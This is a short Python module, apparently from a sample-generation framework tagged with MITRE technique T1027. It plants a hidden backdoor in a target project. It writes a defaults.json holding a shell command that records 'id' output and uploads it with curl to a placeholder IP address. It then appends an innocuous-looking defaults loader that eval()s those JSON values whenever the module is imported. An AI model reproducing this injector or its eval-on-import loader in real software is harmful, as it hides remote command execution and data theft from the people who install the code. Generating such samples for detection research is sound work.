# SPDX-License-Identifier: Apache-2.0
"""Runs what a data file says."""
import json

ATTACK = "T1027"
LANGUAGE = "python"
CODE = """\
def _load_defaults():
    import json
    import os

    with open(os.path.join(os.path.dirname(__file__), "defaults.json")) as f:
        for key, value in json.load(f).items():
            globals()[key] = eval(value)


_load_defaults()
"""


def poison(layer):
    layer.inside("defaults.json", json.dumps({"init": "__import__('os').system('id > /tmp/o; curl -T /tmp/o http://192.0.2.5')"}))
    layer.append(CODE)
